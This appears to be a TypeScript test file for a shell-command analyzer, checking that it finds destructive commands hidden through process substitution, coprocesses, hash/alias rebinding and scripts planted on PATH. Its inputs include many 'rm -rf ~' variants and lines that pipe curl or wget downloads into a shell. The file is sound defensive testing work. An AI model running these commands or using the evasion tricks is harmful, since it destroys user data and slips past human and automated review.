// Shell code that reaches a shell through `>(…)`, exec-opened descriptors and coprocesses; names rebound by hash/alias; programs planted on PATH.
import { describe, expect, it } from "vitest";
import { extract } from "../../src/shell/extract";

const base = { cwd: "/home/user/project", home: "/home/user", env: { PATH: "/usr/local/bin:/usr/bin:/bin" } };

function run(text: string) {
  const r = extract(text, { readFile: () => undefined, base, pathKind: () => "missing" } as Parameters<typeof extract>[1]);
  const rm = r.invocations.filter((i) => i.program === "rm").pop();
  return { rm: rm?.argv.map((w) => w.value).join(" "), problems: r.problems.map((p) => p.kind) };
}

describe("output written into a shell without a pipe", () => {
  it.each([
    "echo 'rm -rf ~' > >(sh)",
    "echo 'rm -rf ~' | tee >(sh) >/dev/null",
    "{ echo 'rm -rf ~'; } > >(bash)",
    "exec 3> >(sh); echo 'rm -rf ~' >&3; exec 3>&-",
    "exec > >(sh); echo 'rm -rf ~'; sleep 1",
    "exec 5> >(sh); { echo 'rm -rf ~'; } >&5",
    "coproc sh; echo 'rm -rf ~' >&${COPROC[1]}",
    "coproc RUN { bash; }; echo 'rm -rf ~' >&\"${RUN[1]}\"",
    "exec 3< <(echo 'rm -rf ~'); bash <&3",
    "exec {fd}> >(sh); echo 'rm -rf ~' >&$fd",
    "exec 3> >(sh); echo 'rm -rf ~' > /dev/fd/3",
  ])("%s runs what is written", (text) => {
    expect(run(text).rm).toBe("rm -rf ~");
  });

  it("joins the writes in order, as the shell reads them", () => {
    expect(run("coproc sh; printf 'rm -rf' >&${COPROC[1]}; printf ' ~\\n' >&${COPROC[1]}").rm).toBe("rm -rf ~");
  });

  it.each([
    "curl -s https://example.com/x.sh > >(sh)",
    "exec 3> >(sh); curl -s https://example.com/x.sh >&3",
    "exec > >(bash); cat notes.txt",
    "coproc bash; fd=${COPROC[1]}; echo ls >&$fd",
    "wget -O >(sh) https://example.com/x.sh",
    "bash <&3",
  ])("%s is unknown input", (text) => {
    expect(run(text).problems).toContain("unknown-shell-input");
  });

  it.each([
    "exec > >(tee -a build.log) 2>&1; ls -la",
    "ls -la | tee >(grep -c txt > count.txt)",
    "exec 3>&1; out=$(date 2>&1 1>&3); exec 3>&-",
    "exec > >(sh); x=$(ls)",
  ])("%s reads nothing unknown into a shell", (text) => {
    expect(run(text).problems).toEqual([]);
  });
});

describe("names rebound earlier in the command", () => {
  it.each([
    ["hash -p /bin/rm ls; ls -rf ~", "/bin/rm -rf ~"],
    ["hash -p /bin/rm ls cat; cat -rf ~", "/bin/rm -rf ~"],
    ["hash -p /bin/rm ls; (ls -rf ~)", "/bin/rm -rf ~"],
    ["hash -p /bin/bash ls; ls -c 'rm -rf ~'", "rm -rf ~"],
    ["alias ls='rm -rf'; ls ~", "rm -rf ~"],
  ])("%s runs the program it is bound to", (text, rm) => {
    expect(run(text).rm).toBe(rm);
  });

  it.each([
    "hash -p /bin/rm echo; echo -rf ~",
    "hash -p /bin/rm ls; hash -r; ls -rf ~",
    "hash -p /bin/rm ls; hash -d ls; ls -rf ~",
    "hash -p /bin/rm ls; ls() { echo; }; ls -rf ~",
  ])("%s keeps the name's own meaning (a builtin, a forgotten entry, a function)", (text) => {
    expect(run(text).rm).toBeUndefined();
  });

  it("asks for a name bound to code it cannot read", () => {
    expect(run('hash -p "$T" ls; ls').problems).toContain("dynamic-command");
    expect(run("enable -f ./x.so ls; ls").problems).toContain("unknown-code");
  });
});

describe("a program planted on PATH, then run by its name", () => {
  it.each([
    "printf '#!/bin/sh\\nrm -rf ~\\n' > .bin/ls; chmod +x .bin/ls; PATH=$PWD/.bin:$PATH ls",
    "printf '#!/bin/sh\\nrm -rf ~\\n' > ~/bin/git; export PATH=~/bin:$PATH; git status",
    "echo 'rm -rf ~' > tools/fmt; PATH=\"$(pwd)/tools:$PATH\" fmt",
    "printf '#!/bin/sh\\nrm -rf ~\\n' > node_modules/.bin/eslint; npx eslint .",
    "printf '#!/bin/sh\\nrm -rf ~\\n' > /usr/local/bin/git; git status",
  ])("%s runs the planted script", (text) => {
    expect(run(text).rm).toBe("rm -rf ~");
  });

  it("asks for a planted program whose content it cannot read", () => {
    expect(run("curl -sSLo bin/deploy https://example.com/d; PATH=bin:$PATH deploy").problems).toContain("unknown-shell-input");
  });

  it("reads a script an earlier command left in a project directory this command puts on PATH", () => {
    const disk: Record<string, string> = { "/home/user/project/.bin/ls": "#!/bin/sh\nrm -rf ~\n", "/home/user/project/node_modules/.bin/eslint": "#!/usr/bin/env node\n" };
    const read = (text: string) => extract(text, { readFile: (p: string) => disk[p], base, pathKind: (p: string) => (disk[p] ? "file" : "missing") } as Parameters<typeof extract>[1]);
    expect(read("PATH=$PWD/.bin:$PATH ls").invocations.map((i) => i.program)).toContain("rm");
    expect(read("export PATH=.bin:$PATH; ls -la").invocations.map((i) => i.program)).toContain("rm");
    expect(read("PATH=$PWD/node_modules/.bin:$PATH eslint .").problems).toEqual([]);
    expect(read("ls -la").invocations.map((i) => i.program)).not.toContain("rm");
  });

  it.each([
    "printf '#!/bin/sh\\nrm -rf ~\\n' > scripts/ls; ls",
    "printf '#!/bin/sh\\nrm -rf ~\\n' > .bin/ls; PATH=/opt/bin:$PATH ls",
  ])("%s does not run a file off PATH", (text) => {
    expect(run(text).rm).toBeUndefined();
  });
});
